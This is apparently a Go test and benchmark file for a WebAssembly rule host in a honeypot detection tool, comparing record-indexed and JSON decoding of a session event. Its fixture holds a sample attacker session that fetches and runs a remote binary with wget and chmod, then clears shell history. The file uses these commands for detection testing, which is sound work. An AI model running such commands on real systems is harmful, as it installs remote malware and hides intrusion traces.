package host

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"sync"
	"testing"

	"github.com/decnet/ttp/abi"
)

// The reference figures of the ABI (issue note and RATIONALE.md): one ~400-byte session event
// through the same eight predicates, read from the record by index (abi), decoded from JSON
// with encoding/json inside the guest (json), and the empty call (bare).

var refOnce sync.Once
var refDir string
var refErr error

// buildReference builds the three reference guests once per test binary.
func buildReference(tb testing.TB) string {
	tb.Helper()
	if testing.Short() || raceEnabled {
		tb.Skip("builds Go wasm guests; not under -short or -race")
	}
	refOnce.Do(func() {
		refDir, refErr = os.MkdirTemp("", "ttp-reference-")
		if refErr != nil {
			return
		}
		for _, name := range []string{"lifter", "jsontwin", "bare"} {
			cmd := exec.Command("go", "build", "-buildmode=c-shared", "-o", filepath.Join(refDir, name+".wasm"), "./testdata/reference/"+name)
			cmd.Env = append(os.Environ(), "GOOS=wasip1", "GOARCH=wasm")
			if out, err := cmd.CombinedOutput(); err != nil {
				refErr = &buildError{name, string(out), err}
				return
			}
		}
	})
	if refErr != nil {
		tb.Fatal(refErr)
	}
	return refDir
}

type buildError struct {
	name, out string
	err       error
}

func (e *buildError) Error() string { return e.name + ": " + e.err.Error() + "\n" + e.out }

var refEvent = abi.Event{SourceKind: "session", SourceID: "cowrie-7f3a", SessionID: "7f3a", Payload: map[string]any{
	"commands":         []any{"uname -a", "cat /proc/cpuinfo", "cd /tmp", "wget http://45.9.1.2/x86", "chmod +x x86", "./x86", "rm -f x86", "history -c", "exit"},
	"command_times_ms": []any{0.0, 120.0, 240.0, 390.0, 510.0, 640.0, 790.0, 900.0, 1010.0},
	"duration_ms":      1400.0, "login_failures": 6.0, "login_success": true,
	"downloads":      []any{map[string]any{"url": "http://45.9.1.2/x86", "sha256": "9f86d081884c7d659a2feaa0c55ad015"}},
	"client_version": "SSH-2.0-Go", "usernames": []any{"root"},
}}

func refInstance(tb testing.TB, name string, fields bool) (Instance, abi.ReplyLimits) {
	tb.Helper()
	ctx := context.Background()
	wasm, err := os.ReadFile(filepath.Join(buildReference(tb), name+".wasm"))
	if err != nil {
		tb.Fatal(err)
	}
	m, err := testCompiler.LoadWasm(ctx, name, wasm, Limits{})
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() { m.Close(ctx) })
	inst, err := m.NewInstance(ctx)
	if err != nil {
		tb.Fatal(err)
	}
	req := &abi.ConfigureRequest{Rules: []abi.RuleConfig{{ID: "R9031", Kind: "lifter:reference_x", AppliesTo: []string{"session"}, Emits: []abi.EmitConfig{{TechniqueID: "T1059", Tactic: "execution", Confidence: 0.6}}}}}
	if _, err := inst.Configure(ctx, req); err != nil {
		tb.Fatal(err)
	}
	return inst, abi.ReplyLimits{Emits: []int{1}, EvidenceKeys: len(m.Manifest().EvidenceKeys)}
}

// TestReferenceTwins: the record-reading lifter and its JSON twin give the same drafts.
func TestReferenceTwins(t *testing.T) {
	ctx := context.Background()
	ev := abi.Expand(refEvent)[0]
	inst, lim := refInstance(t, "lifter", true)
	viaABI, err := inst.Tag(ctx, 0, &ev, lim, nil)
	if err != nil {
		t.Fatal(err)
	}
	twin, _ := refInstance(t, "jsontwin", false)
	data, _ := json.Marshal(ev)
	reply, err := twin.(RawTagger).TagRecord(ctx, data)
	if err != nil {
		t.Fatal(err)
	}
	viaJSON, err := abi.DecodeReply(reply, lim, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(viaABI) != 1 || len(viaJSON) != 1 || viaABI[0].Evidence[0].Value != viaJSON[0].Evidence[0].Value {
		t.Fatalf("abi %+v, json %+v", viaABI, viaJSON)
	}
	t.Logf("event of %d bytes as JSON, score %v", len(data), viaABI[0].Evidence[0].Value)
}

func BenchmarkReference(b *testing.B) {
	ctx := context.Background()
	ev := abi.Expand(refEvent)[0]
	b.Run("abi", func(b *testing.B) {
		inst, lim := refInstance(b, "lifter", true)
		var out []abi.ReplyDraft
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			var err error
			if out, err = inst.Tag(ctx, 0, &ev, lim, out[:0]); err != nil || len(out) != 1 {
				b.Fatal(err, out)
			}
		}
	})
	b.Run("json", func(b *testing.B) {
		inst, lim := refInstance(b, "jsontwin", false)
		data, _ := json.Marshal(ev)
		raw := inst.(RawTagger)
		var out []abi.ReplyDraft
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			reply, err := raw.TagRecord(ctx, data)
			if err != nil {
				b.Fatal(err)
			}
			if out, err = abi.DecodeReply(reply, lim, out[:0]); err != nil || len(out) != 1 {
				b.Fatal(err, out)
			}
		}
	})
	b.Run("bare", func(b *testing.B) {
		inst, lim := refInstance(b, "bare", false)
		var out []abi.ReplyDraft
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			var err error
			if out, err = inst.Tag(ctx, 0, &ev, lim, out[:0]); err != nil {
				b.Fatal(err)
			}
		}
	})
}
